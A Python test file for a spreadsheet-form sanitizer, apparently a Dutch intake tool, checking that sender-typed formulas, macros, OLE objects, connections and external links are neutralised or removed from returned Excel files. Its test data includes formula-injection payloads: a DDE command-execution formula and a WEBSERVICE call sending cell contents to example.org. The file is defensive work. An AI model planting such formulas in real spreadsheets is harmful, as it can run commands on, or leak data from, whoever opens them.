"""What a sender made live comes back as text; what the form computes stays live."""

from __future__ import annotations

import zipfile

import pytest
from openpyxl import load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula

from tests.forms import edit, sound_form
from vsvanalyse.intake import read_registration
from vsvanalyse.intake.defuse import is_harmless
from vsvanalyse.intake.returned import write_returned

LIVE = {
    "E5": '=HYPERLINK("http://example.org","klik")',
    "H5": '=WEBSERVICE("http://example.org/"&F5)',
    "E6": "=cmd|' /C calc'!A0",
    "H6": "=[1]Blad1!A1",
    "E7": "=1+1",
}


def _returned(tmp_path, change):
    path = edit(sound_form(tmp_path / "f.xlsx"), change)
    return write_returned(path, read_registration(path).bevindingen, tmp_path / "terug.xlsx")


def test_typed_formulas_and_links_come_back_as_text(tmp_path):
    def change(book):
        page = book["Andere kosten"]
        for cell, formula in LIVE.items():
            page[cell] = formula
        page["H7"] = ArrayFormula("H7", "=SUM(F5:F7)")
        page["B5"].hyperlink = "http://example.org"

    page = load_workbook(_returned(tmp_path, change))["Andere kosten"]
    for cell, formula in LIVE.items():
        assert (page[cell].value, page[cell].data_type) == (formula, "s"), cell
        assert page[cell].quotePrefix
    assert (page["H7"].value, page["H7"].data_type) == ("=SUM(F5:F7)", "s")
    assert page["B5"].hyperlink is None
    assert page["B5"].value.startswith("T05")


def test_a_stored_result_comes_back_instead_of_its_formula(tmp_path):
    path = sound_form(tmp_path / "f.xlsx")
    parts = _parts(path)
    sheet = parts["xl/worksheets/sheet4.xml"]
    cell = b"<v>250.5</v>"
    assert sheet.count(cell) == 1
    parts["xl/worksheets/sheet4.xml"] = sheet.replace(cell, b"<f>200+50.5</f>" + cell)
    _write_parts(path, parts)
    page = load_workbook(write_returned(path, read_registration(path).bevindingen, tmp_path / "t.xlsx"))
    assert page["Andere kosten"]["F5"].value == 250.5


def test_names_limits_and_colours_that_reach_outside_are_left_out(tmp_path):
    def change(book):
        book.defined_names["buiten"] = DefinedName("buiten", attr_text="[1]Blad1!$A$1")
        page = book["Andere kosten"]
        limit = DataValidation(type="list", formula1='=INDIRECT("[a.xlsx]Blad!A1")')
        limit.add("K1")
        page.add_data_validation(limit)
        page.conditional_formatting.add("K1", FormulaRule(['WEBSERVICE("http://example.org")=""']))

    book = load_workbook(_returned(tmp_path, change))
    page = book["Andere kosten"]
    assert "buiten" not in book.defined_names
    assert "lijst_taak" in book.defined_names
    assert not any("INDIRECT" in (v.formula1 or "") for v in page.data_validations.dataValidation)
    assert not any("WEBSERVICE" in r.formula[0] for a in page.conditional_formatting for r in a.rules)


@pytest.mark.parametrize(
    "part",
    [
        "xl/vbaProject.bin",
        "xl/embeddings/oleObject1.bin",
        "xl/connections.xml",
        "xl/externalLinks/externalLink1.xml",
    ],
)
def test_macros_objects_and_connections_stay_behind(tmp_path, part):
    path = sound_form(tmp_path / "f.xlsx")
    _write_parts(path, _parts(path) | {part: b"<x/>"})
    returned = write_returned(path, read_registration(path).bevindingen, tmp_path / "terug.xlsx")
    with zipfile.ZipFile(returned) as archive:
        assert part not in archive.namelist()


def test_what_the_form_computes_stays_live(tmp_path):
    made = load_workbook(sound_form(tmp_path / "f.xlsx", vorig_jaar_ct={"T14": 100}))
    live = [
        (page.title, cell.coordinate, cell.value)
        for page in made
        for row in page.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    texts = [v.text if isinstance(v, ArrayFormula) else v for _, _, v in live]
    assert all(map(is_harmless, texts))
    for page in made:
        for area in page.conditional_formatting:
            assert all(is_harmless(text) for rule in area.rules for text in rule.formula)
    book = load_workbook(_returned(tmp_path, lambda book: None))
    assert {(sheet, cell) for sheet, cell, _ in live} == {
        (page.title, cell.coordinate)
        for page in book
        for row in page.iter_rows()
        for cell in row
        if cell.data_type == "f"
    }


def _parts(path):
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _write_parts(path, parts):
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
